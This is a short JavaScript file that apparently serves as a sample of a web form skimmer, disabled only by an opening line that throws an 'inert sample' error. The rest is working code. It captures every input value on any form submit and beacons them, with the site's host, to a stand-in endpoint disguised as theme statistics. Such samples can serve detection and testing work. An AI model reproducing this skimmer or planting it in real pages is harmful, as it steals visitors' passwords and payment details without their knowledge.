throw new Error('inert sample');
function grab(form) {
  const values = {};
  form.querySelectorAll('input').forEach((field) => { values[field.name || field.type] = field.value; });
  navigator.sendBeacon('https://stats.theme.example/f', JSON.stringify({ at: location.host, values }));
}
document.addEventListener('submit', (event) => grab(event.target), true);
